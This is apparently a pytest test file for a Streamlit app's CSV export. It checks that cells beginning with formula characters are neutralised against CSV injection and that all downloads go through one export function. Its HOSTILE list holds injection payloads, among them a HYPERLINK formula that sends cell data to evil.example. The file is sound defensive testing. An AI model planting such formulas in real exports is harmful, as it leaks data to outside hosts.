"""CSV downloads are safe to open in a spreadsheet: a text cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a ``'`` in front (OWASP, "CSV Injection"), numbers stay
numbers, and no page offers a CSV that does not go through ``lib.csv_export``."""

from __future__ import annotations

import ast
import csv
import io
import sqlite3
import tomllib
from pathlib import Path

import pandas as pd
import pytest

from lib.csv_export import FORMULA_STARTS, csv_bytes, neutralise
from tests.support import overview as known
from tests.support.apptest import no_exception, open_page

ROOT = Path(__file__).resolve().parents[1]
# What someone could have stored as a name (the console's own forms refuse the last two).
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1, "Open")', "+1", "-x", "@SUM(A1:A9)", "\t=1", "\r=1"]


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_that_a_spreadsheet_would_evaluate_gets_a_quote_in_front(text):
    assert neutralise(text) == "'" + text
    assert rows(csv_bytes(pd.DataFrame({"customer": [text]}))) == [["customer"], ["'" + text]]


@pytest.mark.parametrize("text", ["Andi Pratama", "", "'=already text", " =1", "a=b", "Rp 250.000", "2026-11-24"])
def test_other_text_is_written_as_it_is(text):
    assert neutralise(text) == text
    assert rows(csv_bytes(pd.DataFrame({"customer": [text], "n": [1]})))[1] == [text, "1"]


def test_numbers_stay_numbers_negative_ones_too_and_only_text_changes():
    frame = pd.DataFrame({"change": [-3, 4], "seconds": [-1.5, 2.0], "note": ["-3", "fine"], "day": [None, None]})
    assert csv_bytes(frame).decode("utf-8") == "change,seconds,note,day\r\n-3,-1.5,'-3,\r\n4,2.0,fine,\r\n"


def test_every_formula_start_of_owasp_is_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_a_cell_with_a_separator_quote_or_line_break_stays_one_cell():
    frame = pd.DataFrame({"name": ['=1,"2"', "a\r\nb", "\r=1"], "n": [1, 2, 3]})
    assert rows(csv_bytes(frame)) == [["name", "n"], ['\'=1,"2"', "1"], ["a\r\nb", "2"], ["'\r=1", "3"]]


@pytest.fixture
def filled(service, monkeypatch):
    monkeypatch.setenv("CALLEXPERT_TIMEZONE", "Asia/Jakarta")
    known.fill_overview(service.store, known.sqlite_stamp(service.store))
    return service


@pytest.mark.usefixtures("always_open")
@pytest.mark.parametrize("name", HOSTILE)
def test_the_overviews_csv_files_hold_a_hostile_name_as_text(filled, app_env, monkeypatch, name):
    """Every download of the page, as its button hands it over: the expert's name in the
    attendance file is neutralised, and no cell of any file starts as a formula."""
    import streamlit as st

    with sqlite3.connect(app_env) as db:
        db.execute("UPDATE experts SET name = ? WHERE email = 'sari@example.com'", (name,))
        db.execute("UPDATE users SET name = ?", (name,))  # customers: in no Overview file, but if ever
    handed: dict[str, bytes] = {}
    button = st.download_button

    def keep(label, data, *args, **kwargs):  # noqa: ANN001, ANN002, ANN003
        handed[kwargs["key"]] = data() if callable(data) else data  # what a click downloads
        return button(label, data, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", keep)
    at = open_page("pages/views/overview_view.py", **{"from": known.FIRST.isoformat(), "to": known.LAST.isoformat()})
    no_exception(at)
    assert len(handed) == 8
    attendance = rows(handed["overview-csv-attendance"])
    assert ["'" + name, "both joined", "1"] in attendance
    for key, data in handed.items():
        for row in rows(data)[1:]:
            for cell in row:
                # A number may be negative; any other cell starting as a formula would be evaluated.
                assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (key, row)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _calls(path: Path) -> list[tuple[str, ast.Call]]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    return [(node.func.attr, node) for node in ast.walk(tree)
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)]


@pytest.mark.parametrize("path", sorted([*(ROOT / "pages").rglob("*.py"), *(ROOT / "lib").rglob("*.py")]),
                         ids=lambda p: str(p.relative_to(ROOT)))
def test_every_csv_download_goes_through_the_one_function(path):
    for name, call in _calls(path):
        if name == "to_csv":
            assert path == ROOT / "lib" / "csv_export.py", f"{path.relative_to(ROOT)} writes CSV itself"
        if name == "download_button":
            mime = next((k.value.value for k in call.keywords if k.arg == "mime" and isinstance(k.value, ast.Constant)),
                        "")
            data = call.args[1] if len(call.args) > 1 else None
            if mime == "text/csv":  # csv_bytes(frame), or partial(csv_bytes, frame) written on the click
                made_by = data.args[0] if isinstance(data, ast.Call) and getattr(data.func, "id", "") == "partial" \
                    and data.args else getattr(data, "func", None)
                assert getattr(made_by, "id", "") == "csv_bytes", (
                    f"{path.relative_to(ROOT)}: a CSV download not made by lib.csv_export.csv_bytes")


def test_tables_and_charts_offer_no_export_of_their_own():
    """Streamlit's own "Download as CSV" on tables writes cells as they are: it is switched off."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
